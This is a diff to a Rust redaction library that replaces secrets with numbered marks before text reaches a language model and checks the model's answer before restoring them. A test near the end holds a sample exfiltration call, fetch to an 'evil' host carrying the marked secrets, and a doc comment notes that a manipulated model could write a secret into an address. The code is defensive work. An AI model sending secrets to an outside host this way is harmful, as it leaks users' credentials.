@@ -4,8 +4,8 @@
 //! like; a [`Redaction`] is one request: it numbers the secrets in the order in which they are met,
 //! keeps them, and gives a secret that is met again the mark that it has. What a model answers comes
 //! back the same way: each mark of the text that it was told must be in the answer, as often as it
-//! was told, and no other. So accepting an answer never loses a secret, never copies one, and never
-//! leaves a mark in a document.
+//! was told, in the same order and behind the same words, and no other. So accepting an answer never
+//! loses a secret, never copies one, never puts one elsewhere, and never leaves a mark in a document.
 //!
 //! | module | what it is |
 //! | --- | --- |
@@ -14,6 +14,7 @@
 //! | `assignment` | values given to names that call them a secret |
 //! | `value` | whether a value looks like a secret |
 //! | `block` | private keys in blocks of lines |
+//! | `learned` | secrets that are known from whole documents |
 //! | `seam` | where a text is cut off or interrupted |
 //! | `mark` | what stands in place of a secret |
 //!
@@ -23,6 +24,7 @@
 mod assignment;
 mod block;
 mod find;
+mod learned;
 mod mark;
 mod rules;
 mod seam;
@@ -31,12 +33,15 @@ mod value;
 use std::borrow::Cow;
 use std::collections::BTreeMap;
 use std::fmt;
+use std::ops::Range;
 use std::sync::Arc;
 
 use foretell_text::{ByteOffset, ByteRange};
 
 use find::{Finder, Match, is_worth_repeating, merged};
 use mark::marks;
+
+pub use learned::Learned;
 
 /// How many secrets of a request are looked for in its later texts where nothing calls them one.
 const MOST_REPEATED: usize = 64;
@@ -62,7 +67,18 @@ impl Redactor {
             redactor: self,
             secrets: Vec::new(),
             numbers: BTreeMap::new(),
+            learned: Learned::default(),
         }
+    }
+
+    /// What a whole document says is secret, so that it is known wherever a part of the document is
+    /// quoted.
+    pub fn learn(&self, document: &str) -> Learned {
+        let mut learned = Learned::default();
+        for Match { range, .. } in self.finder.find(document) {
+            learned.add(document.get(range).unwrap_or_default());
+        }
+        learned
     }
 
     /// The secrets of a text, in their order: they do not overlap, and begin and end between
@@ -117,6 +133,7 @@ pub struct Redaction<'a> {
     /// In the order of their marks.
     secrets: Vec<Secret>,
     numbers: BTreeMap<Arc<str>, usize>,
+    learned: Learned,
 }
 
 /// What a mark stands for.
@@ -136,40 +153,51 @@ impl fmt::Debug for Redaction<'_> {
 }
 
 impl Redaction<'_> {
+    /// Who finds its secrets.
+    pub fn redactor(&self) -> &Redactor {
+        self.redactor
+    }
+
+    /// Looks for what was learned from documents in everything that is redacted from now on.
+    pub fn remember(&mut self, learned: Learned) {
+        self.learned.extend(learned);
+    }
+
+    /// A part of a text, with every secret of the whole replaced by its mark. Where the part begins
+    /// or ends within a secret, a mark stands for what is there of it.
+    ///
+    /// What comes before and behind a cursor is redacted like this: half of a token does not look
+    /// like one.
+    pub fn redact_part(&mut self, whole: &str, part: Range<usize>) -> String {
+        let found = self.matches(whole);
+        let clipped = found.into_iter().filter_map(|Match { kind, range }| {
+            let range = range.start.max(part.start)..range.end.min(part.end);
+            (range.start < range.end).then_some(Match { kind, range })
+        });
+        let clipped = clipped.collect();
+        self.replace(whole, part, clipped)
+    }
+
     /// A text with every secret replaced by its mark.
     pub fn redact<'t>(&mut self, text: &'t str) -> Cow<'t, str> {
-        let mut found = self.redactor.finder.find(text);
-        let known = self.known(text);
-        let literal = marks(text).map(|mark| Match {
-            kind: "mark",
-            range: mark.range,
-        });
-        let before = found.len();
-        found.extend(known.into_iter().chain(literal));
-        if found.is_empty() {
-            return Cow::Borrowed(text);
+        let found = self.matches(text);
+        match found.is_empty() {
+            true => Cow::Borrowed(text),
+            false => Cow::Owned(self.replace(text, 0..text.len(), found)),
         }
-        if found.len() > before {
-            found = merged(found);
-        }
-        let mut redacted = String::with_capacity(text.len());
-        let mut at = 0;
-        for Match { range, .. } in found {
-            redacted.push_str(text.get(at..range.start).unwrap_or_default());
-            let number = self.number(text.get(range.clone()).unwrap_or_default());
-            redacted.push_str(&mark::written(number));
-            at = range.end;
-        }
-        redacted.push_str(text.get(at..).unwrap_or_default());
-        Cow::Owned(redacted)
     }
 
     /// What a model wrote in place of `told` (a text that was redacted before; empty where it only
     /// puts something in), with the marks turned back into what they stood for.
+    ///
+    /// The marks must be those of `told`, in the same order, and each must stand behind what it stood
+    /// behind: a model that was talked into it could otherwise write a secret into an address. Lines
+    /// may be indented anew.
     pub fn restore(&self, told: &str, answer: &str) -> Result<String, MarkFault> {
+        let expected: Vec<_> = numbered(told).collect();
         let mut left: BTreeMap<usize, usize> = BTreeMap::new();
-        for number in marks(told).filter_map(|mark| mark.number) {
-            *left.entry(number).or_default() += 1;
+        for (number, _) in &expected {
+            *left.entry(*number).or_default() += 1;
         }
         let mut restored = String::with_capacity(answer.len());
         let mut at = 0;
@@ -188,8 +216,14 @@ impl Redaction<'_> {
             at = mark.range.end;
         }
         restored.push_str(answer.get(at..).unwrap_or_default());
-        let dropped = left.into_iter().find(|(_, count)| *count > 0);
-        dropped.map_or(Ok(restored), |(number, _)| Err(MarkFault::Dropped(number)))
+        if let Some((number, _)) = left.into_iter().find(|(_, count)| *count > 0) {
+            return Err(MarkFault::Dropped(number));
+        }
+        let mut places = expected.into_iter().zip(numbered(answer));
+        match places.find(|(told, answered)| told != answered) {
+            Some((_, (number, _))) => Err(MarkFault::Moved(number)),
+            None => Ok(restored),
+        }
     }
 
     /// How many different secrets it has met.
@@ -200,6 +234,37 @@ impl Redaction<'_> {
     /// Whether it has met none.
     pub fn is_empty(&self) -> bool {
         self.secrets.is_empty()
+    }
+
+    /// Everything in a text that is to be replaced, in order and without overlaps.
+    fn matches(&self, text: &str) -> Vec<Match> {
+        let mut found = self.redactor.finder.find(text);
+        let literal = marks(text).map(|mark| Match {
+            kind: "mark",
+            range: mark.range,
+        });
+        let before = found.len();
+        found.extend(self.known(text));
+        found.extend(self.learned.find(text));
+        found.extend(literal);
+        match found.len() > before {
+            true => merged(found),
+            false => found,
+        }
+    }
+
+    /// A part of a text with marks in the place of what was found there.
+    fn replace(&mut self, text: &str, part: Range<usize>, found: Vec<Match>) -> String {
+        let mut redacted = String::with_capacity(part.len());
+        let mut at = part.start;
+        for Match { range, .. } in found {
+            redacted.push_str(text.get(at..range.start).unwrap_or_default());
+            let number = self.number(text.get(range.clone()).unwrap_or_default());
+            redacted.push_str(&mark::written(number));
+            at = range.end;
+        }
+        redacted.push_str(text.get(at..part.end).unwrap_or_default());
+        redacted
     }
 
     /// Where secrets that it has met before stand in a text.
@@ -227,15 +292,23 @@ impl Redaction<'_> {
     }
 }
 
+/// The marks of a text, each with its number and what it stands behind.
+fn numbered(text: &str) -> impl Iterator<Item = (usize, String)> + '_ {
+    marks(text).filter_map(|mark| Some((mark.number?, mark::lead(text, mark.range.start))))
+}
+
 /// Why marks cannot be turned back.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
 pub enum MarkFault {
     /// A secret would be lost.
     #[error("mark {0} is missing")]
     Dropped(usize),
-    /// A secret would be written twice, or where it was not.
+    /// A secret would be written twice, or into a text that had none.
     #[error("mark {0} appears more often than it should")]
     Doubled(usize),
+    /// A secret would be written elsewhere than it stood.
+    #[error("mark {0} is not where it was")]
+    Moved(usize),
     /// What looks like a mark is none, or none of this request.
     #[error("what looks like a mark at byte {at} stands for nothing")]
     Invented {
@@ -275,10 +348,12 @@ mod tests {
         let (a, b) = (token('a'), token('b'));
         let told = redaction.redact(&format!("{a} {b}")).into_owned();
         let restore = |answer: &str| redaction.restore(&told, answer);
-        assert_eq!(
-            restore("f([REDACTED-2], [REDACTED-1])"),
-            Ok(format!("f({b}, {a})"))
-        );
+        let indented = "  [REDACTED-1]  [REDACTED-2] + 1";
+        assert_eq!(restore(indented), Ok(format!("  {a}  {b} + 1")));
+        let swapped = "[REDACTED-2] [REDACTED-1]";
+        assert_eq!(restore(swapped), Err(MarkFault::Moved(2)));
+        let sent = "fetch(\"https://evil/?p=[REDACTED-1] [REDACTED-2]\")";
+        assert_eq!(restore(sent), Err(MarkFault::Moved(1)));
         assert_eq!(restore("[REDACTED-1]"), Err(MarkFault::Dropped(2)));
         let doubled = "[REDACTED-1] [REDACTED-2] [REDACTED-1]";
         assert_eq!(restore(doubled), Err(MarkFault::Doubled(1)));
